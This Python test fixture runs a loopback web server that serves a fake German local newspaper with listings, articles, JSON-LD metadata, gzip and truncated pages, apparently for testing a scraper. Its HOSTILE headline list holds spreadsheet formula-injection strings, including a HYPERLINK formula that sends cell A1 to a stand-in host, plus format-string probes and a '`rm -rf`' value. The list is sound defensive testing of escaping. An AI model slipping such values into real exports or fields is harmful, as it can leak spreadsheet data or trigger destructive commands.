"""A newspaper on loopback for the scripts beside this file: articles that can be edited, some compressed."""

import gzip
import html
import http.server
import json
import threading

WORDS = ("Gemeinderat Bürgermeister Haushalt Brücke Umbau Feuerwehr Schule Verein Rathaus Straße Abend Beschluss Antrag "
         "Mehrheit Landkreis Kosten Sanierung Entwurf Verwaltung Sitzung Bahnhof Radweg Spielplatz Chor Bibliothek").split()


# Links on one listing page; dateline takes 2,000 at most from a page.
PER_LISTING = 1_000


def sentence(seed, length=12):
    state = seed * 2654435761 % 2**32
    words = []
    for _ in range(length):
        state = (state * 1103515245 + 12345) % 2**31
        words.append(WORDS[(state >> 8) % len(WORDS)])
    return " ".join(words).capitalize() + f" Nummer {seed}."


class Newspaper(http.server.ThreadingHTTPServer):
    """Serves `articles` articles; `edits` counts how often each was changed, `sidebar` what stands beside all;
    `broken` are those whose pages break off in the middle."""

    daemon_threads = True
    request_queue_size = 128

    def __init__(self, articles, padding=0):
        self.articles, self.padding, self.edits, self.sidebar, self.broken = articles, padding, {}, 0, set()
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def origin(self):
        return f"http://127.0.0.1:{self.server_address[1]}"

    def selectors(self, lead=".vorspann", name="zeitung"):
        return f"""format = 1
[portal]
id = "{name}"
home = "{self.origin}/"
timezone = "Europe/Berlin"
[politeness]
delay = "0s"
concurrency = 8
[urls]
article = ['^/artikel/']
{"".join(f'[[listing]]{chr(10)}url = "{self.origin}/liste/{n}"{chr(10)}' for n in range(-(-self.articles // PER_LISTING)))}
[article]
lead = "{lead}"
"""

    def page(self, path):
        if path.startswith("/liste/"):
            first = int(path.rsplit("/", 1)[1]) * PER_LISTING
            numbers = range(first, min(first + PER_LISTING, self.articles))
            return "".join(f"<a href='/artikel/{n}'>Meldung {n}</a>\n" for n in numbers)
        if not path.startswith("/artikel/"):
            return None
        number = int(path.rsplit("/", 1)[1])
        if number >= self.articles:
            return None
        text = "".join(f"<p>{sentence(number * 100 + k, 30)} {sentence(number * 100 + k + 50, 25)}</p>\n" for k in range(9))
        changed = ["heute", "gestern", "vorgestern"][min(self.edits.get(number, 0), 2)]
        return (f"<!doctype html><html lang='de'><head><meta charset='utf-8'><title>Meldung {number}</title>"
                f"<style>{'.a{color:red}' * (self.padding // 14)}</style></head><body><article><h1>Meldung {number}</h1>"
                f"<p class='vorspann'>Vorspann {sentence(number)}</p>{text}<p>Beschlossen wurde das {changed}.</p></article>"
                f"<aside><h2>Anzeige {self.sidebar}</h2><a href='/artikel/{self.sidebar}'>Auch interessant</a></aside></body></html>")


# Headlines that are dangerous to a spreadsheet, a parser or a guess of types.
HOSTILE = ["=1+1", '=HYPERLINK("http://portal.example/?"&A1,"hier")', "+49 711 12345", "-2+3", "@SUM(1+1)", "＝1+1", 'Ein " allein',
           'Er sagte: "Ja, aber"', "a,b;c\\te", "NA", "NULL", "TRUE", "007", "1e5", "2020-04-06", "e\u0301 und é", "🦊🏳️‍🌈 Fuchs",
           "{\\LaTeX} & $x_1$ % #~^", "<b>&amp;</b>", "TY  - JOUR", "@article{x,", "]]> und <!-- -->", "%s %n {} ${x}", "l'été d'or",
           "`rm -rf`", "عنوان بالعربية"]


class Gazette(Newspaper):
    """Articles with everything a record has: people, sections, quotations, dates; every other one has a hostile headline."""

    @staticmethod
    def headline(number):
        value = HOSTILE[number // 2 % len(HOSTILE)] if number % 2 else f"Meldung {number} aus {WORDS[number % len(WORDS)]}"
        return " ".join(value.split())

    @staticmethod
    def authors(number):
        people = ["Anna Beispiel", "Jörg von der Aue", "Zoë O'Neil", "Karl-Heinz Öztürk", "Mia Groß"]
        return [people[(number + k) % len(people)] for k in range(number % 3)]

    def page(self, path):
        if not path.startswith("/artikel/"):
            return super().page(path)
        number = int(path.rsplit("/", 1)[1])
        if number >= self.articles:
            return None
        headline, month, day = self.headline(number), number // 28 % 12 + 1, number % 28 + 1
        facts = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": headline,
                 "datePublished": f"2024-{month:02}-{day:02}T{number % 24:02}:{number % 60:02}:00+02:00",
                 "author": [{"@type": "Person", "name": name} for name in self.authors(number)],
                 "articleSection": "Lokales", "keywords": [WORDS[number % 7], WORDS[number % 11 + 7]]}
        paragraphs = [f"Musterstadt. {sentence(number, 20)}",
                      f"„{sentence(number + 1, 9)}“, sagte Bürgermeisterin Petra Muster am Montag. {sentence(number + 2, 15)}",
                      f"{sentence(number + 3, 25)} {sentence(number + 4, 25)}"]
        if number % 1_000 == 999:
            # More than a spreadsheet's cell holds.
            paragraphs += [sentence(number + k, 60) for k in range(100)]
        text = "".join(f"<p>{html.escape(each)}</p>\n" for each in paragraphs)
        text = text.replace("Musterstadt. ", f"Musterstadt. Der <a href='/artikel/{(number + 1) % self.articles}'>{WORDS[number % 25]} "
                            f"&quot;{number}&quot;</a> ist beschlossen. ", 1)
        code = json.dumps(facts).replace("<", "\\u003c")
        return (f"<!doctype html><html lang='de'><head><meta charset='utf-8'><title>{html.escape(headline)}</title>"
                f"<script type='application/ld+json'>{code}</script></head><body><article><h1>{html.escape(headline)}</h1>"
                f"<p class='vorspann'>Vorspann {sentence(number)}</p>{text}<pre>a\tb\n  c,\"d\"</pre>"
                "</article></body></html>")


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        page = self.server.page(self.path)
        body = (page or "nichts").encode()
        self.send_response(200 if page else 404)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        # Every third article as servers send it to clients that take it.
        if page and self.path[-1] in "147" and "gzip" in self.headers.get("Accept-Encoding", ""):
            body = gzip.compress(body, mtime=0)
            self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if page and self.path.startswith("/artikel/") and int(self.path.rsplit("/", 1)[1]) in self.server.broken:
            body, self.close_connection = body[: len(body) // 2], True
        self.wfile.write(body)

    def log_message(self, *_):
        pass
